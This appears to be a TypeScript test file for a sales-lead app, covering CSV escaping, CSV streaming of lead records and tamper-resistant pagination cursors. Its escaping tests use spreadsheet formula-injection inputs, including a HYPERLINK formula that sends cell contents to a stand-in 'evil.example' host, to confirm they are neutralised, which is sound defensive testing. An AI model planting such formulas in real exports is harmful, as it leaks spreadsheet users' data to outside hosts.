import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { decodeCursor, encodeCursor, INVALID_CURSOR } from '../../src/core/leads/cursor.ts';
import { LEAD_CSV_COLUMNS, csvCell, csvLine, leadCsvStream, type LeadCsvRecord } from '../../src/core/leads/csv.ts';

const lead = (id: number, fields: Partial<LeadCsvRecord> = {}): LeadCsvRecord =>
  ({ id, url: `https://site${id}.example/`, title: `Site ${id}`, status: 'ANALYZED', discovered_at: '2026-01-02T03:04:05.000Z', campaign_id: 7, technical_issues: [], ...fields }) as LeadCsvRecord;

async function collect(stream: ReadableStream<Uint8Array>): Promise<string> {
  return new Response(stream).text();
}

async function* pages(list: LeadCsvRecord[][], read: number[] = []) {
  for (const [i, page] of list.entries()) {
    read.push(i);
    yield page;
  }
}

describe('csvCell', () => {
  it('neutralises cells a spreadsheet would run as a formula', () => {
    expect(csvCell('=HYPERLINK("https://evil.example","x")')).toBe(`"'=HYPERLINK(""https://evil.example"",""x"")"`);
    expect(csvCell('+1 512 555 0100')).toBe("'+1 512 555 0100");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\tcmd')).toBe("'\tcmd");
    expect(csvCell('\rcmd')).toBe(`"'\rcmd"`);
  });

  it('leaves ordinary text and numbers alone and quotes only when RFC 4180 needs it', () => {
    expect(csvCell('Acme Plumbing')).toBe('Acme Plumbing');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell('Smith, Jones & Co')).toBe('"Smith, Jones & Co"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
  });

  it('ends each record with CRLF', () => {
    expect(csvLine(['a', 1, null])).toBe('a,1,\r\n');
  });
});

describe('leadCsvStream', () => {
  it('writes one header and a row per lead, readable by a CSV parser', async () => {
    const evil = lead(2, { title: '=HYPERLINK("https://evil.example/?q="&A1,"Click")', company_name: 'Smith, "Best" Plumbing', address: 'Line 1\nLine 2' });
    const stream = await leadCsvStream(
      pages([
        [lead(1, { market_opportunity_score: 80, technical_issues: ['No SSL certificate', 'Not mobile friendly'] })],
        [evil],
      ]),
    );
    const text = await collect(stream);
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0])).toEqual([...LEAD_CSV_COLUMNS]);
    expect(text.split('\r\n')[0]).toBe(LEAD_CSV_COLUMNS.join(','));
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({ id: '1', market_opportunity_score: '80', technical_issues: 'No SSL certificate; Not mobile friendly', campaign_id: '7' });
    expect(rows[1].title).toBe(`'=HYPERLINK("https://evil.example/?q="&A1,"Click")`);
    expect(rows[1].company_name).toBe('Smith, "Best" Plumbing');
    expect(rows[1].address).toBe('Line 1\nLine 2');
  });

  it('reads the first page before returning and the rest only as the stream is consumed', async () => {
    const read: number[] = [];
    const stream = await leadCsvStream(pages([1, 2, 3].map((i) => [lead(i)]), read));
    expect(read).toEqual([0]);
    const reader = stream.getReader();
    await reader.read();
    await reader.cancel();
    expect(read.length).toBeLessThan(3);
  });

  it('writes just the header when there are no leads', async () => {
    expect(await collect(await leadCsvStream(pages([])))).toBe(LEAD_CSV_COLUMNS.join(',') + '\r\n');
  });
});

describe('lead list cursors', () => {
  it('round-trip with the first page\'s total and are refused for another sort order or when tampered with', () => {
    const cursor = encodeCursor('industry', { key: ['0plumbing', 12], total: 10_000, exact: false });
    expect(cursor).toMatch(/^[A-Za-z0-9_-]+$/);
    expect(decodeCursor('industry', cursor)).toEqual({ key: ['0plumbing', 12], total: 10_000, exact: false });
    expect(() => decodeCursor('urgency', cursor)).toThrow(INVALID_CURSOR);
    expect(() => decodeCursor('industry', 'not-a-cursor')).toThrow(INVALID_CURSOR);
    expect(() => decodeCursor('urgency', encodeCursor('urgency', { key: ['80', 1], total: 1, exact: true }))).toThrow(INVALID_CURSOR);
    expect(() => decodeCursor('urgency', encodeCursor('urgency', { key: [80, 1], total: -1, exact: true }))).toThrow(INVALID_CURSOR);
  });
});
